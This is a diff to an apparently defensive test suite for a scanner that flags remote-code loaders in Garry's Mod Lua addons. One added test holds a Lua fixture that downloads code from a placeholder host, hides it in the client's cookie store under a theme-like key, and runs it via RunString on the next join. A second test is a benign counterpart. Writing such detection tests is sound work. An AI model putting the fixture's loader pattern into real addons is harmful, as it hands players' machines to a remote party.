@@ -309,6 +309,39 @@ describe('runstring', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
   });
+  it("a download cached in the client's cookie store and run from it on the next join", () => {
+    // The run comes first (nothing cached yet), then the download: the join hook runs again
+    // once the store holds the body, as it would on the player's next join.
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua': [
+        'local KEY = "hud_theme_v2"',
+        'local function Apply()',
+        '  local cached = cookie.GetString(KEY, "")',
+        '  if cached ~= "" then RunString(cached, "hud", false) end',
+        'end',
+        'hook.Add("InitPostEntity", "hudtheme", function()',
+        '  Apply()',
+        '  timer.Simple(10, function()',
+        '    http.Fetch("https://cdn.invalid/theme.lua", function(body) cookie.Set(KEY, body) end)',
+        '  end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('a download cached in the cookie store under another key than the one run (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua': [
+        'hook.Add("InitPostEntity", "hudtheme", function()',
+        '  http.Fetch("https://cdn.invalid/news.txt", function(body) cookie.Set("hud_news", body) end)',
+        '  cookie.Set("hud_code", "print(\'hud ready\')")',
+        '  RunString(cookie.GetString("hud_code", ""), "hud")',
+        '  chat.AddText(cookie.GetString("hud_news", ""))',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('a download parked in a field of an entity the addon made', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
